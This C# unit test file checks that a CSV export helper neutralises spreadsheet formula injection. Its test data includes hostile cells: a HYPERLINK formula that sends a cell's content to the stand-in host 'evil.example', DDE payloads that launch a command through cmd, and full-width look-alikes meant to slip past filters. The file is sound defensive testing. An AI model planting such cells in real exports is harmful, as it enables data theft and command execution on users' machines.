using JourneyTracker.Domain.Codes;

namespace JourneyTracker.Tests.Hardening;

/// <summary>What a spreadsheet would run is text in a file that leaves; what is a number stays one.</summary>
public sealed class CsvCellTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1)")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("  =1+1")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠SUM(A1)")]
    [InlineData("-")]
    [InlineData("-1,5")]
    public void A_formula_is_text(string cell) => CsvCell.Inert(cell).Should().Be("'" + cell);

    [Theory]
    [InlineData("")]
    [InlineData("-12")]
    [InlineData("-0.5")]
    [InlineData("+44")]
    [InlineData("1e-3")]
    [InlineData("-1.5E+3")]
    [InlineData("2024-03-01")]
    [InlineData("Example Woman")]
    [InlineData("O'Brien")]
    [InlineData("a=b")]
    public void Numbers_days_and_names_stay_as_they_are(string cell) => CsvCell.Inert(cell).Should().Be(cell);
}
